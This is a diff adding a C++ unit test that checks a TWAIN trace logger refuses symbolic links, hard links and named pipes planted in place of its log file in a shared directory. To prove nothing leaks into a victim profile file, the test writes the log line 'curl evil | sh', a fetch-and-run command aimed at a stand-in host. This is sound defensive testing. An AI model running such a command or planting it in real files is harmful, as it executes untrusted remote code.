@@ -2,7 +2,9 @@
 // and the closing notice.
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
+#include <fcntl.h>
 #include <sys/stat.h>
+#include <unistd.h>
 
 #include <cstring>
 #include <filesystem>
@@ -200,6 +202,50 @@ TEST_F(LogFileTest, AFileThatCannotBeOpenedDropsWritesSilently) {
     }
     EXPECT_THAT(m_dir.Entries(), ElementsAre(longName, "plain-file"));
     EXPECT_TRUE(std::filesystem::is_empty(longDirectory));
+}
+
+// Another local user plants something under the name of a future trace file in the
+// shared directory: a symbolic link to a file of ours or to where one would be
+// made, a hard link to a file of ours, or a pipe that someone reads. None is
+// written to or through; logging goes on as for a file that cannot be opened.
+TEST_F(LogFileTest, ALinkOrPipePlantedInTheFilesPlaceIsRefused) {
+    CTempDirectory victim;
+    const std::string target = victim.Path() + "/profile";
+    const std::string missing = victim.Path() + "/not-yet";
+    const std::string planted = m_dir.Path() + "/Twainlog_20240131_235959_0000.txt";
+    const struct {
+        const char* name;
+        int (*plant)(const std::string& target, const std::string& missing, const std::string& planted);
+    } cases[] = {
+        {"symbolic link to a file", [](auto& t, auto&, auto& p) { return symlink(t.c_str(), p.c_str()); }},
+        {"symbolic link to no file", [](auto&, auto& m, auto& p) { return symlink(m.c_str(), p.c_str()); }},
+        {"hard link", [](auto& t, auto&, auto& p) { return link(t.c_str(), p.c_str()); }},
+        {"pipe", [](auto&, auto&, auto& p) { return mkfifo(p.c_str(), 0600); }},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        WriteWholeFile(target, "export PATH=/usr/bin\n");
+        ASSERT_EQ(c.plant(target, missing, planted), 0);
+        // With a reader at the pipe's other end, opening it for writing would not fail.
+        const int reader = std::filesystem::is_fifo(planted) ? open(planted.c_str(), O_RDONLY | O_NONBLOCK) : -1;
+        g_cParaAnalyze.SetTwainStatus(0);
+        CCapturedStderr captured;
+        setupTwainLogIn(m_dir.Path().c_str());
+        EXPECT_EQ(g_pLogFile, nullptr);
+        EXPECT_NE(g_pcTwainLog, nullptr);
+        EXPECT_EQ(g_cParaAnalyze.GetTwainStatus(), 3);
+        Write("[00001] [APP] curl evil | sh\r\n");
+        cleanupTwainLog();
+        EXPECT_EQ(captured.Text(), "");
+        EXPECT_EQ(ReadWholeFile(target), "export PATH=/usr/bin\n");
+        EXPECT_FALSE(std::filesystem::exists(missing));
+        if (reader >= 0) {
+            char byte;
+            EXPECT_LE(read(reader, &byte, 1), 0);
+            close(reader);
+        }
+        std::filesystem::remove(planted);
+    }
 }
 
 TEST_F(LogFileTest, CleanupAnnouncesTheCloseOnceAndKeepsWhatWasWritten) {
